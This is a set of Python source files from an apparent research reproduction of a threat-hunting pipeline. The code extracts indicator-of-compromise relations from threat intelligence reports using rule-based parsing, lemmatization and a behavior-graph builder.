    def extract(self, document: str) -> ExtractionResult:
        """Run the pipeline on one OSCTI report and return all artefacts."""
        all_trees: list[tuple[int, int, DependencyTree]] = []
        all_iocs: list[IOC] = []
        coreference_links = 0

        for block_index, block in enumerate(segment_blocks(document)):
            if self._protect_iocs:
                protected = protect_iocs(block.text)
                block_text = protected.text
                replacements = protected.replacements
                all_iocs.extend(protected.iocs())
            else:
                # Ablation: no protection.  IOCs are still recognised on the
                # raw text so their offsets can be attached to whatever tokens
                # the (now confused) parser produces at those positions.
                matches = recognize_iocs(block.text)
                block_text = block.text
                replacements = [(match.start, match.ioc) for match in matches]
                all_iocs.extend(match.ioc for match in matches)
            block_trees: list[DependencyTree] = []
            for sentence in segment_sentences(block_text):
                tree = self._parser.parse(sentence.text, sentence_offset=sentence.start)
                tree.restore_iocs(replacements)
                if not self._protect_iocs:
                    self._restore_unprotected(tree, replacements)
                tree.annotate()
                if self._simplify:
                    tree.simplify()
                block_trees.append(tree)
            if self._resolve_coref:
                coreference_links += self._coref.resolve_block(block_trees)
            for sentence_index, tree in enumerate(block_trees):
                all_trees.append((block_index, sentence_index, tree))

        merge_result = self._merger.merge(all_iocs)

        relations: list[IOCRelation] = []
        for block_index, sentence_index, tree in all_trees:
            relations.extend(
                self._relations.extract(tree, block_index=block_index, sentence_index=sentence_index)
            )

        graph = self._builder.build(relations, merge_result)
        return ExtractionResult(
            graph=graph,
            relations=relations,
            iocs=all_iocs,
            merge_result=merge_result,
            trees=[tree for _, _, tree in all_trees],
            coreference_links=coreference_links,
        )

    def extract_graph(self, document: str) -> ThreatBehaviorGraph:
        """Convenience wrapper returning only the threat behavior graph."""
        return self.extract(document).graph

    @staticmethod
    def _restore_unprotected(tree: DependencyTree, replacements: list[tuple[int, IOC]]) -> None:
        """Best-effort IOC attachment when protection is disabled (ablation).

        Without protection an IOC such as ``/tmp/upload.tar`` is shattered
        into several tokens; the IOC is attached to the first token whose
        block-level offset falls inside the IOC's raw-text span.
        """
        for node in tree.nodes:
            if node.ioc is not None:
                continue
            block_offset = node.offset + tree.sentence_offset
            for start, ioc in replacements:
                if start <= block_offset < start + len(ioc.text):
                    node.ioc = ioc
                    break


class NaiveCooccurrenceExtractor:
    """Baseline extractor without IOC protection or dependency parsing.

    It recognises IOCs directly on the raw text, splits sentences with a naive
    period rule (so dots inside IOCs corrupt boundaries), and emits one
    relation per ordered pair of IOCs co-occurring in a "sentence", using the
    first verb-looking token between them.  EXP-NLP-ACC quantifies how far this
    falls short of the full pipeline.
    """

    def __init__(self) -> None:
        self._tokenizer = Tokenizer()
        self._merger = IOCMerger()
        self._builder = BehaviorGraphBuilder()

    def extract(self, document: str) -> ExtractionResult:
        """Run the naive baseline on one OSCTI report."""
        relations: list[IOCRelation] = []
        all_iocs: list[IOC] = []
        # Naive sentence split: every period ends a sentence (no protection).
        naive_sentences = [chunk for chunk in document.split(".") if chunk.strip()]
        for sentence_index, sentence in enumerate(naive_sentences):
            matches = recognize_iocs(sentence)
            iocs = [match.ioc for match in matches]
            all_iocs.extend(iocs)
            if len(matches) < 2:
                continue
            tokens = self._tokenizer.tokenize(sentence)
            for i in range(len(matches) - 1):
                first, second = matches[i], matches[i + 1]
                verb = self._first_verb_between(tokens, first.end, second.start)
                if verb is None:
                    continue
                relations.append(
                    IOCRelation(
                        subject=first.ioc,
                        verb=verb,
                        obj=second.ioc,
                        order_key=(0, sentence_index, first.start),
                    )
                )
        merge_result = self._merger.merge(all_iocs)
        graph = self._builder.build(relations, merge_result)
        return ExtractionResult(
            graph=graph, relations=relations, iocs=all_iocs, merge_result=merge_result
        )

    @staticmethod
    def _first_verb_between(tokens, start: int, end: int) -> str | None:
        for token in tokens:
            if token.start < start or token.start >= end:
                continue
            if is_relation_verb_form(token.text):
                return lemmatize(token.text, "VB")
        return None
