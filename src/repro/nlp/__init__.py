"""Unsupervised NLP pipeline for threat behavior extraction from OSCTI text."""

from repro.nlp.behavior_graph import (
    BehaviorEdge,
    BehaviorGraphBuilder,
    BehaviorNode,
    ThreatBehaviorGraph,
)
from repro.nlp.coref import CoreferenceResolver
from repro.nlp.depparse import DependencyParser, parse_sentence
from repro.nlp.deptree import DependencyNode, DependencyTree
from repro.nlp.extractor import (
    ExtractionResult,
    NaiveCooccurrenceExtractor,
    ThreatBehaviorExtractor,
)
from repro.nlp.ioc import (
    CASE_INSENSITIVE_IOC_TYPES,
    IOC,
    IOCMatch,
    IOCType,
    PROTECTION_WORD,
    ProtectedText,
    is_protection_placeholder,
    placeholder_index,
    protect_iocs,
    protection_placeholder,
    recognize_iocs,
)
from repro.nlp.lemmatizer import Lemmatizer, lemmatize
from repro.nlp.merge import IOCMerger, MergeResult, merge_iocs, should_merge
from repro.nlp.pos import PosTagger
from repro.nlp.relation import IOCRelation, RelationExtractor
from repro.nlp.segmentation import TextSpan, segment_blocks, segment_sentences
from repro.nlp.tokenizer import Token, Tokenizer, tokenize
from repro.nlp.wordvec import character_overlap, cosine_similarity, vectorize

__all__ = [
    "BehaviorEdge",
    "CASE_INSENSITIVE_IOC_TYPES",
    "BehaviorGraphBuilder",
    "BehaviorNode",
    "CoreferenceResolver",
    "DependencyNode",
    "DependencyParser",
    "DependencyTree",
    "ExtractionResult",
    "IOC",
    "IOCMatch",
    "IOCMerger",
    "IOCRelation",
    "IOCType",
    "Lemmatizer",
    "MergeResult",
    "NaiveCooccurrenceExtractor",
    "PROTECTION_WORD",
    "PosTagger",
    "ProtectedText",
    "RelationExtractor",
    "TextSpan",
    "ThreatBehaviorExtractor",
    "ThreatBehaviorGraph",
    "Token",
    "Tokenizer",
    "character_overlap",
    "cosine_similarity",
    "is_protection_placeholder",
    "lemmatize",
    "merge_iocs",
    "parse_sentence",
    "placeholder_index",
    "protect_iocs",
    "protection_placeholder",
    "recognize_iocs",
    "segment_blocks",
    "segment_sentences",
    "should_merge",
    "tokenize",
    "vectorize",
]
