"""IOC relation extraction from annotated dependency trees.

For each dependency tree, the extractor enumerates all pairs of IOC nodes and,
for each pair, checks whether they satisfy the subject–object relation by
considering the dependency types along three parts of their connecting path:
the common path from the root to the LCA (lowest common ancestor) and the two
individual paths from the LCA to each node (Section II-C, step 8).  Pairs that
pass the check yield an IOC entity-relation triplet whose verb is the
annotated candidate verb closest to the object IOC node, lemmatised.
"""

from __future__ import annotations

import enum
from dataclasses import dataclass

from repro.nlp.deptree import DependencyNode, DependencyTree
from repro.nlp.ioc import IOC
from repro.nlp.lemmatizer import lemmatize

#: Verbs whose direct object acts as the instrument/agent of a purpose clause.
INSTRUMENT_VERBS = frozenset(
    {"use", "leverage", "employ", "utilize", "run", "launch", "execute", "invoke", "deploy"}
)


class ArgumentRole(enum.Enum):
    """The grammatical role a node plays relative to the pair's LCA."""

    SUBJECT = "subject"
    OBJECT = "object"
    UNKNOWN = "unknown"


@dataclass(frozen=True)
class IOCRelation:
    """One extracted IOC entity-relation triplet.

    Attributes:
        subject: The acting IOC (typically a tool/process file path).
        verb: The lemmatised relation verb.
        obj: The acted-upon IOC.
        order_key: Sort key reflecting the relation verb's occurrence position
            in the OSCTI document (block index, sentence index, verb offset);
            the behavior graph uses it to assign step sequence numbers.
    """

    subject: IOC
    verb: str
    obj: IOC
    order_key: tuple[int, int, int]


def is_subject_like(node: DependencyNode) -> bool:
    """True when ``node`` served as a subject-side argument in its tree.

    Used by coreference resolution to prefer antecedents that were the actor
    of a previous step (the "It" in "It wrote the gathered information ..."
    refers to the tool used in the previous sentence, not to the file read).
    """
    label = node.label
    if label in ("nsubj",):
        return True
    if label == "pobj" and node.parent is not None and node.parent.label == "agent":
        return True
    governor_verb = _governing_verb(node)
    if (
        label in ("dobj", "appos", "compound")
        and governor_verb is not None
        and governor_verb.lemma in INSTRUMENT_VERBS
    ):
        return True
    return False


def _governing_verb(node: DependencyNode) -> DependencyNode | None:
    """Nearest ancestor whose POS is verbal."""
    for ancestor in node.ancestors():
        if ancestor.pos.startswith("V") or ancestor.pos == "AUX":
            return ancestor
    return None


class RelationExtractor:
    """Extracts IOC entity-relation triplets from one dependency tree."""

    def extract(
        self,
        tree: DependencyTree,
        block_index: int = 0,
        sentence_index: int = 0,
    ) -> list[IOCRelation]:
        """Extract all triplets from ``tree``.

        Args:
            tree: An annotated, simplified, coreference-resolved tree.
            block_index: Index of the tree's block in the document.
            sentence_index: Index of the sentence within its block.
        """
        relations: list[IOCRelation] = []
        ioc_nodes = tree.ioc_nodes()
        for i in range(len(ioc_nodes)):
            for j in range(i + 1, len(ioc_nodes)):
                first, second = ioc_nodes[i], ioc_nodes[j]
                first_ioc = first.effective_ioc()
                second_ioc = second.effective_ioc()
                if first_ioc is None or second_ioc is None:
                    continue
                if first_ioc.normalized() == second_ioc.normalized():
                    continue
                triplet = self._check_pair(tree, first, second, block_index, sentence_index)
                if triplet is not None:
                    relations.append(triplet)
        return relations

    # -- pair checking -------------------------------------------------------

    def _check_pair(
        self,
        tree: DependencyTree,
        first: DependencyNode,
        second: DependencyNode,
        block_index: int,
        sentence_index: int,
    ) -> IOCRelation | None:
        lca = tree.lowest_common_ancestor(first, second)
        path_first = tree.path_from_ancestor(lca, first)
        path_second = tree.path_from_ancestor(lca, second)

        role_first = self._role(lca, first, path_first, other_path=path_second)
        role_second = self._role(lca, second, path_second, other_path=path_first)

        if {role_first, role_second} != {ArgumentRole.SUBJECT, ArgumentRole.OBJECT}:
            return None
        if role_first is ArgumentRole.SUBJECT:
            subject_node, subject_path = first, path_first
            object_node, object_path = second, path_second
        else:
            subject_node, subject_path = second, path_second
            object_node, object_path = first, path_first

        verb = self._select_verb(tree, lca, subject_path, object_path, object_node)
        if verb is None:
            return None
        verb_lemma = lemmatize(verb.text, verb.pos)
        subject_ioc = subject_node.effective_ioc()
        object_ioc = object_node.effective_ioc()
        assert subject_ioc is not None and object_ioc is not None
        order_key = (block_index, sentence_index, verb.offset)
        return IOCRelation(
            subject=subject_ioc, verb=verb_lemma, obj=object_ioc, order_key=order_key
        )

    def _role(
        self,
        lca: DependencyNode,
        node: DependencyNode,
        path: list[DependencyNode],
        other_path: list[DependencyNode],
    ) -> ArgumentRole:
        # Ancestor case: the node *is* the LCA.  It is the subject when the
        # other node hangs below it through a participial/relative clause or a
        # preposition ("the launched process /usr/bin/gpg reading from X").
        if not path:
            other_labels = [step.label for step in other_path]
            if any(label in ("acl", "relcl") or label.startswith("prep_") for label in other_labels):
                return ArgumentRole.SUBJECT
            return ArgumentRole.UNKNOWN

        labels = [step.label for step in path]
        head_label = labels[0]

        if head_label == "nsubj":
            return ArgumentRole.SUBJECT
        if head_label == "agent":
            return ArgumentRole.SUBJECT
        if head_label == "nsubjpass":
            return ArgumentRole.OBJECT
        if head_label in ("dobj", "appos"):
            # Direct object of an instrument verb acts as the subject of the
            # purpose clause ("used /bin/tar to read ..."); otherwise it is the
            # patient of the action.
            lca_is_instrument = (
                (lca.pos.startswith("V") or lca.pos == "AUX") and lca.lemma in INSTRUMENT_VERBS
            )
            other_descends_into_clause = any(
                step.label in ("xcomp", "ccomp", "advcl")
                or step.label.startswith("prep_")
                for step in other_path
            )
            if lca_is_instrument and other_descends_into_clause:
                return ArgumentRole.SUBJECT
            return ArgumentRole.OBJECT
        if head_label in ("xcomp", "ccomp", "advcl", "conj", "acl", "relcl", "pcomp", "pobj", "dep"):
            # Check the remainder of the path: a nested nsubj/agent still marks
            # a subject ("..., which was downloaded by /usr/bin/wget").
            for depth, label in enumerate(labels[1:], start=1):
                if label in ("nsubj", "agent"):
                    return ArgumentRole.SUBJECT
                if label in ("dobj", "appos") and depth < len(labels):
                    parent_node = path[depth - 1]
                    if parent_node.lemma in INSTRUMENT_VERBS:
                        return ArgumentRole.SUBJECT
            return ArgumentRole.OBJECT
        if head_label.startswith("prep_"):
            remaining = labels[1:]
            if any(label in ("nsubj", "agent") for label in remaining):
                return ArgumentRole.SUBJECT
            # "by using X ...": the object of the instrument gerund is the actor.
            for depth, label in enumerate(remaining, start=1):
                if label in ("dobj", "appos"):
                    parent_node = path[depth - 1]
                    if parent_node.lemma in INSTRUMENT_VERBS:
                        return ArgumentRole.SUBJECT
            return ArgumentRole.OBJECT
        if head_label == "compound":
            return ArgumentRole.UNKNOWN
        return ArgumentRole.UNKNOWN

    def _select_verb(
        self,
        tree: DependencyTree,
        lca: DependencyNode,
        subject_path: list[DependencyNode],
        object_path: list[DependencyNode],
        object_node: DependencyNode,
    ) -> DependencyNode | None:
        """Pick the candidate relation verb closest to the object IOC node.

        Candidates are collected from the three path parts: the common path
        from the root to the LCA, and the two LCA-to-node paths.  Distance is
        measured in tree hops to the object node; ties break toward later
        sentence position (the verb immediately governing the object's
        prepositional phrase usually follows earlier, higher verbs).
        """
        candidates: list[DependencyNode] = []
        for node in tree.path_from_root(lca):
            if node.is_candidate_verb:
                candidates.append(node)
        for node in subject_path + object_path:
            if node.is_candidate_verb:
                candidates.append(node)
        if not candidates:
            return None

        object_chain = [object_node, *object_node.ancestors()]
        object_positions = {id(node): depth for depth, node in enumerate(object_chain)}

        def distance(verb: DependencyNode) -> int:
            # Distance from the verb to the object node along the tree: if the
            # verb is an ancestor of the object, it is the ancestor depth;
            # otherwise ancestor depth of the LCA plus the verb's depth below it.
            if id(verb) in object_positions:
                return object_positions[id(verb)]
            verb_chain = [verb, *verb.ancestors()]
            for rise, node in enumerate(verb_chain):
                if id(node) in object_positions:
                    return object_positions[id(node)] + rise
            return len(object_chain) + len(verb_chain)

        best = min(candidates, key=lambda verb: (distance(verb), -verb.offset))
        return best
