"""Hashing-based word vectors (spaCy vector-table substitute).

The IOC scan-and-merge step merges similar IOCs "based on both the
character-level overlap and the word vector similarities".  spaCy ships
pre-trained vectors; in a from-scratch, offline reproduction we build
deterministic character-n-gram hashing vectors instead: each word (or IOC
string) is mapped to a fixed-dimension vector by hashing its character
n-grams into buckets.  Words sharing many character n-grams — which is what
matters for near-duplicate IOC strings such as ``upload.tar`` vs.
``/tmp/upload.tar`` — end up with high cosine similarity, preserving the
behaviour the merge step needs.
"""

from __future__ import annotations

import hashlib
import math
from functools import lru_cache

#: Vector dimensionality.  256 buckets keeps collisions rare for IOC-length
#: strings while staying tiny.
VECTOR_DIMENSIONS = 256

#: Character n-gram sizes hashed into the vector.
NGRAM_SIZES = (2, 3, 4)


def _bucket(ngram: str) -> int:
    digest = hashlib.blake2s(ngram.encode("utf-8"), digest_size=4).digest()
    return int.from_bytes(digest, "little") % VECTOR_DIMENSIONS


@lru_cache(maxsize=16384)
def vectorize(text: str) -> tuple[float, ...]:
    """Map ``text`` to its character-n-gram hashing vector (L2-normalised)."""
    normalized = text.lower()
    counts = [0.0] * VECTOR_DIMENSIONS
    padded = f"<{normalized}>"
    for size in NGRAM_SIZES:
        if len(padded) < size:
            continue
        for start in range(len(padded) - size + 1):
            counts[_bucket(padded[start : start + size])] += 1.0
    norm = math.sqrt(sum(value * value for value in counts))
    if norm == 0.0:
        return tuple(counts)
    return tuple(value / norm for value in counts)


def cosine_similarity(first: str, second: str) -> float:
    """Cosine similarity between the hashing vectors of two strings."""
    vector_a = vectorize(first)
    vector_b = vectorize(second)
    return sum(a * b for a, b in zip(vector_a, vector_b))


def character_overlap(first: str, second: str) -> float:
    """Character-level overlap: Jaccard similarity of character trigram sets.

    This is the "character-level overlap" half of the IOC merge criterion; it
    is robust to prefixes/suffixes (paths vs. bare names) because trigrams of
    the common substring dominate both sets.
    """
    def trigrams(text: str) -> set[str]:
        padded = f"<{text.lower()}>"
        return {padded[i : i + 3] for i in range(max(1, len(padded) - 2))}

    set_a = trigrams(first)
    set_b = trigrams(second)
    if not set_a or not set_b:
        return 0.0
    return len(set_a & set_b) / len(set_a | set_b)


def containment(first: str, second: str) -> float:
    """Directional overlap: how much of the shorter string's trigrams appear in the longer's."""
    def trigrams(text: str) -> set[str]:
        padded = f"<{text.lower()}>"
        return {padded[i : i + 3] for i in range(max(1, len(padded) - 2))}

    set_a = trigrams(first)
    set_b = trigrams(second)
    if not set_a or not set_b:
        return 0.0
    smaller, larger = (set_a, set_b) if len(set_a) <= len(set_b) else (set_b, set_a)
    return len(smaller & larger) / len(smaller)
