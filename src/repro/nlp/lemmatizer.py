"""Rule-based lemmatizer (spaCy lemmatizer substitute).

The relation extractor stores the lemmatised relation verb on every behaviour
edge ("the selected verb (after lemmatization)"), so query synthesis sees
``write`` whether the report said "wrote", "writes" or "writing".  Nouns are
also reduced to singular form for IOC merging and coreference.
"""

from __future__ import annotations

from repro.nlp import lexicon

_VOWELS = set("aeiou")


def _strip_verb_suffix(word: str) -> str:
    if word.endswith("ies") and len(word) > 4:
        return word[:-3] + "y"
    if word.endswith("sses"):
        return word[:-2]
    if word.endswith("es") and len(word) > 3:
        stem = word[:-2]
        # "uses" -> "use", "launches" -> "launch"
        if stem.endswith(("ch", "sh", "x", "z", "s")):
            return stem
        return stem + "e" if stem[-1] not in _VOWELS and stem[-1] != "e" and _needs_e(stem) else stem
    if word.endswith("s") and not word.endswith("ss") and len(word) > 3:
        return word[:-1]
    if word.endswith("ing") and len(word) > 4:
        return _undouble(word[:-3])
    if word.endswith("ed") and len(word) > 3:
        return _undouble(word[:-2])
    return word


def _undouble(stem: str) -> str:
    """Resolve a doubled final consonant ("dropped" → "drop") or restore 'e'.

    Stems that are already valid relation verbs ("compress") are returned
    unchanged so the de-doubling rule does not mangle them.
    """
    if stem in lexicon.RELATION_VERB_OPERATIONS:
        return stem
    if len(stem) > 2 and stem[-1] == stem[-2] and stem[-1] not in _VOWELS:
        return stem[:-1]
    if _needs_e(stem):
        return stem + "e"
    return stem


def _needs_e(stem: str) -> bool:
    """Heuristic: does the stem need a restored trailing 'e'?

    "leverag" → "leverage", "creat" → "create", but "read" stays "read".
    Checked against the relation-verb lexicon first, so the heuristic only has
    to cover out-of-lexicon words.
    """
    if stem in lexicon.RELATION_VERB_OPERATIONS:
        return False
    if (stem + "e") in lexicon.RELATION_VERB_OPERATIONS:
        return True
    # Generic heuristic: consonant-vowel-consonant endings usually take 'e'
    # when the final consonant is soft (c, g, s, v, z).
    return len(stem) >= 3 and stem[-1] in "cgsvz"


def lemmatize(word: str, pos: str = "") -> str:
    """Return the lemma of ``word`` given its (optional) POS tag."""
    lowered = word.lower()
    if lowered in lexicon.IRREGULAR_VERB_LEMMAS:
        return lexicon.IRREGULAR_VERB_LEMMAS[lowered]
    if pos.startswith("V") or pos == "AUX":
        return _strip_verb_suffix(lowered)
    if pos in ("NN", "NNS", "NNP", "NNPS"):
        if lowered.endswith("ies") and len(lowered) > 4:
            return lowered[:-3] + "y"
        if lowered.endswith("ses") or lowered.endswith("xes") or lowered.endswith("zes"):
            return lowered[:-2]
        if lowered.endswith("s") and not lowered.endswith("ss") and len(lowered) > 3:
            return lowered[:-1]
        return lowered
    if not pos:
        # Unknown POS: try verb stripping when it lands on a known verb.
        stripped = _strip_verb_suffix(lowered)
        if stripped in lexicon.RELATION_VERB_OPERATIONS:
            return stripped
    return lowered


class Lemmatizer:
    """Object wrapper so the pipeline can treat lemmatisation as a component."""

    def lemma(self, word: str, pos: str = "") -> str:
        """Lemma of ``word`` with POS tag ``pos``."""
        return lemmatize(word, pos)
