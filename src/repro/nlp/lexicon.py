"""Lexical resources for the rule-based NLP pipeline.

Three resources live here so the tagger, the dependency parser, the
coreference resolver and the relation extractor all share one vocabulary:

* closed-class word lists (determiners, prepositions, pronouns, auxiliaries,
  conjunctions, modals) used by the POS tagger;
* an open-class lexicon of words that appear pervasively in OSCTI reports,
  with their most likely tag in that genre;
* the **candidate relation verbs**: the verbs whose subject–object IOC pairs
  constitute threat behaviours, together with the TBQL operation each verb
  maps to during query synthesis.
"""

from __future__ import annotations

DETERMINERS = frozenset(
    {"the", "a", "an", "this", "that", "these", "those", "its", "their", "his",
     "her", "each", "every", "some", "any", "no", "another", "such", "both"}
)

PREPOSITIONS = frozenset(
    {"of", "in", "on", "at", "by", "with", "from", "to", "into", "onto", "over",
     "under", "through", "via", "against", "during", "after", "before", "between",
     "within", "without", "across", "toward", "towards", "upon", "as", "for",
     "behind", "inside", "outside", "back"}
)

PERSONAL_PRONOUNS = frozenset(
    {"it", "they", "he", "she", "we", "you", "i", "them", "him", "her", "us"}
)

DEMONSTRATIVE_PRONOUNS = frozenset({"this", "that", "these", "those"})

RELATIVE_PRONOUNS = frozenset({"which", "that", "who", "whom", "whose", "where"})

AUXILIARIES = frozenset(
    {"is", "are", "was", "were", "be", "been", "being", "am", "do", "does", "did",
     "has", "have", "had", "having"}
)

MODALS = frozenset({"can", "could", "will", "would", "shall", "should", "may", "might", "must"})

COORDINATING_CONJUNCTIONS = frozenset({"and", "or", "but", "nor", "so", "yet"})

SUBORDINATING_CONJUNCTIONS = frozenset(
    {"after", "before", "when", "while", "once", "because", "since", "although",
     "though", "if", "unless", "until", "whereas"}
)

#: Common adjectives in OSCTI prose (suffix rules miss short ones like "large").
COMMON_ADJECTIVES = frozenset(
    {"large", "small", "new", "old", "first", "second", "third", "final", "last",
     "next", "initial", "valuable", "sensitive", "important", "remote", "local",
     "multiple", "several", "suspicious", "clear", "zipped", "same", "own",
     "high", "low", "big", "many", "few", "other", "various", "certain"}
)

ADVERBS = frozenset(
    {"then", "next", "finally", "first", "later", "subsequently", "afterwards",
     "also", "again", "already", "often", "previously", "remotely", "locally",
     "successfully", "mainly", "furthermore", "additionally", "meanwhile",
     "eventually", "immediately", "directly", "thereby", "further", "not"}
)

#: Candidate IOC relation verbs and the TBQL operation each maps to during
#: query synthesis (Section II-E: "maps its associated IOC relation to the
#: TBQL operation type using a set of rules").
RELATION_VERB_OPERATIONS: dict[str, str] = {
    # file read-like behaviours
    "read": "read",
    "open": "read",
    "access": "read",
    "load": "read",
    "scan": "read",
    "collect": "read",
    "gather": "read",
    "harvest": "read",
    "steal": "read",
    "exfiltrate": "read",
    "parse": "read",
    "search": "read",
    # file write-like behaviours
    "write": "write",
    "save": "write",
    "store": "write",
    "create": "write",
    "drop": "write",
    "download": "write",
    "place": "write",
    "copy": "write",
    "compress": "write",
    "archive": "write",
    "encrypt": "write",
    "modify": "write",
    "append": "write",
    "dump": "write",
    "log": "write",
    # execute-like behaviours
    "execute": "execute",
    "run": "execute",
    "launch": "execute",
    "invoke": "execute",
    "start": "execute",
    "use": "execute",
    "leverage": "execute",
    "deploy": "execute",
    # process behaviours
    "fork": "fork",
    "spawn": "fork",
    "inject": "exec",
    "kill": "kill",
    "terminate": "kill",
    # network behaviours
    "connect": "connect",
    "communicate": "connect",
    "contact": "connect",
    "beacon": "connect",
    "send": "send",
    "transfer": "send",
    "upload": "send",
    "transmit": "send",
    "leak": "send",
    "post": "send",
    "receive": "recv",
    "fetch": "recv",
    "retrieve": "recv",
    "request": "connect",
    "resolve": "connect",
    "delete": "delete",
    "remove": "delete",
    "wipe": "delete",
    "rename": "rename",
}

#: Verbs (beyond the relation verbs) common in reports, kept for POS accuracy.
OTHER_COMMON_VERBS = frozenset(
    {"be", "is", "are", "was", "were", "attempt", "attempts", "attempted",
     "try", "tried", "involve", "involves", "involved", "correspond",
     "corresponds", "corresponded", "perform", "performs", "performed",
     "exploit", "exploits", "exploited", "penetrate", "penetrates",
     "penetrated", "encode", "encoded", "extract", "extracts", "extracted",
     "crack", "cracks", "cracked", "compromise", "compromised", "infect",
     "infected", "install", "installs", "installed", "wrote", "written",
     "sent", "stolen", "ran", "used"}
)

#: Nouns that frequently refer back to an IOC and therefore participate in
#: coreference resolution ("the file", "the tool", "this utility", ...).
COREFERENT_NOUNS = frozenset(
    {"file", "files", "tool", "utility", "binary", "executable", "script",
     "payload", "malware", "sample", "process", "program", "archive",
     "document", "image", "host", "server", "machine", "address", "domain",
     "connection", "data", "information", "credentials", "one"}
)

#: Irregular verb forms mapped to their lemma (supplement to suffix stripping).
IRREGULAR_VERB_LEMMAS: dict[str, str] = {
    "wrote": "write",
    "written": "write",
    "read": "read",
    "ran": "run",
    "sent": "send",
    "stole": "steal",
    "stolen": "steal",
    "took": "take",
    "taken": "take",
    "made": "make",
    "began": "begin",
    "begun": "begin",
    "got": "get",
    "gotten": "get",
    "held": "hold",
    "kept": "keep",
    "left": "leave",
    "led": "lead",
    "lost": "lose",
    "put": "put",
    "said": "say",
    "saw": "see",
    "seen": "see",
    "sought": "seek",
    "sold": "sell",
    "set": "set",
    "was": "be",
    "were": "be",
    "been": "be",
    "is": "be",
    "are": "be",
    "am": "be",
    "did": "do",
    "done": "do",
    "had": "have",
    "has": "have",
    "went": "go",
    "gone": "go",
    "used": "use",
    "came": "come",
    "found": "find",
    "gave": "give",
    "given": "give",
    "knew": "know",
    "known": "know",
    "brought": "bring",
    "built": "build",
    "bought": "buy",
    "caught": "catch",
    "chose": "choose",
    "chosen": "choose",
}
