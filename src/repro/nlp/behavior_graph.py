"""Threat behavior graph construction.

The extracted IOCs and IOC relations form a **threat behavior graph**: nodes
are (canonical) IOCs, edges are verb relations between them, and each edge
carries a sequence number indicating the step order, assigned by iterating
over the triplets "sorted by the occurrence offset of the relation verb in
OSCTI text" (Section II-C, step 10).
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Iterable

from repro.nlp.ioc import IOC, IOCType
from repro.nlp.merge import MergeResult
from repro.nlp.relation import IOCRelation


@dataclass(frozen=True)
class BehaviorNode:
    """One node of the threat behavior graph: a canonical IOC."""

    ioc: IOC

    @property
    def text(self) -> str:
        return self.ioc.text

    @property
    def ioc_type(self) -> IOCType:
        return self.ioc.ioc_type


@dataclass(frozen=True)
class BehaviorEdge:
    """One edge of the threat behavior graph: subject --verb--> object.

    Attributes:
        subject: Node the action originates from (the actor/tool IOC).
        verb: Lemmatised relation verb.
        obj: Node the action targets.
        sequence: 1-based step order of this behaviour in the report.
    """

    subject: BehaviorNode
    verb: str
    obj: BehaviorNode
    sequence: int


@dataclass
class ThreatBehaviorGraph:
    """The threat behavior graph extracted from one OSCTI report."""

    nodes: list[BehaviorNode] = field(default_factory=list)
    edges: list[BehaviorEdge] = field(default_factory=list)

    def node_for(self, ioc: IOC) -> BehaviorNode | None:
        """The node holding ``ioc`` (by normalised text and type), if any."""
        for node in self.nodes:
            if node.ioc.normalized() == ioc.normalized() and node.ioc_type == ioc.ioc_type:
                return node
        return None

    def edges_in_order(self) -> list[BehaviorEdge]:
        """Edges sorted by sequence number."""
        return sorted(self.edges, key=lambda edge: edge.sequence)

    def adjacent_edges(self, node: BehaviorNode) -> list[BehaviorEdge]:
        """Edges touching ``node`` (as subject or object)."""
        return [edge for edge in self.edges if edge.subject == node or edge.obj == node]

    def remove_nodes(self, nodes: Iterable[BehaviorNode]) -> None:
        """Remove nodes and every edge connected to them (used by synthesis screening)."""
        to_remove = set(nodes)
        self.edges = [
            edge
            for edge in self.edges
            if edge.subject not in to_remove and edge.obj not in to_remove
        ]
        self.nodes = [node for node in self.nodes if node not in to_remove]

    def summary(self) -> dict[str, int]:
        """Node/edge counts for reports and tests."""
        return {"nodes": len(self.nodes), "edges": len(self.edges)}

    def to_lines(self) -> list[str]:
        """Readable rendering: one line per edge in step order."""
        return [
            f"{edge.sequence}. {edge.subject.text} --[{edge.verb}]--> {edge.obj.text}"
            for edge in self.edges_in_order()
        ]


class BehaviorGraphBuilder:
    """Builds a :class:`ThreatBehaviorGraph` from triplets and merge results."""

    def build(
        self, relations: list[IOCRelation], merge_result: MergeResult
    ) -> ThreatBehaviorGraph:
        """Construct the graph.

        Triplets are processed in occurrence order; duplicate edges (same
        canonical subject, verb and object) keep their first sequence number,
        and sequence numbers are re-numbered densely from 1.
        """
        graph = ThreatBehaviorGraph()
        nodes_by_key: dict[tuple[str, IOCType], BehaviorNode] = {}
        edge_keys: set[tuple[str, str, str]] = set()
        ordered = sorted(relations, key=lambda relation: relation.order_key)
        sequence = 0
        for relation in ordered:
            subject_ioc = merge_result.resolve(relation.subject)
            object_ioc = merge_result.resolve(relation.obj)
            if subject_ioc.normalized() == object_ioc.normalized():
                continue
            subject_node = self._node(graph, nodes_by_key, subject_ioc)
            object_node = self._node(graph, nodes_by_key, object_ioc)
            edge_key = (subject_ioc.normalized(), relation.verb, object_ioc.normalized())
            if edge_key in edge_keys:
                continue
            edge_keys.add(edge_key)
            sequence += 1
            graph.edges.append(
                BehaviorEdge(
                    subject=subject_node,
                    verb=relation.verb,
                    obj=object_node,
                    sequence=sequence,
                )
            )
        return graph

    @staticmethod
    def _node(
        graph: ThreatBehaviorGraph,
        nodes_by_key: dict[tuple[str, IOCType], BehaviorNode],
        ioc: IOC,
    ) -> BehaviorNode:
        key = (ioc.normalized(), ioc.ioc_type)
        node = nodes_by_key.get(key)
        if node is None:
            node = BehaviorNode(ioc=ioc)
            nodes_by_key[key] = node
            graph.nodes.append(node)
        return node
