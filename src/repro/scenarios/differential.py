"""Cross-engine differential verification harness.

The repo executes TBQL hunts through several interchangeable machinery
configurations: the vectorized columnar relational executor vs. the row-dict
reference executor, the relational vs. the graph backend, ad-hoc execution
vs. prepared standing-query plans, and one-shot batch loading vs. micro-batched
streaming replay with watermark-windowed standing hunts.  Their agreement was
previously only spot-checked by per-subsystem property tests.

This module is the end-to-end differential oracle: it runs every generated
campaign's expected TBQL hunts (:mod:`repro.scenarios.campaign`) through every
engine configuration and verifies that all of them return the **same matched
audit event ids** — and therefore identical hunting precision/recall/F1
against the campaign's ground truth.  Any divergence is reported with the
campaign, hunt and configuration that disagreed.
"""

from __future__ import annotations

from dataclasses import dataclass, field, replace

from repro.core.config import ThreatRaptorConfig
from repro.core.pipeline import ThreatRaptor
from repro.evaluation import PrecisionRecall, score_hunting
from repro.scenarios.campaign import GeneratedCampaign, generate_campaigns
from repro.streaming.source import ReplaySource


@dataclass(frozen=True)
class EngineConfiguration:
    """One way of executing a TBQL hunt over an audit trace.

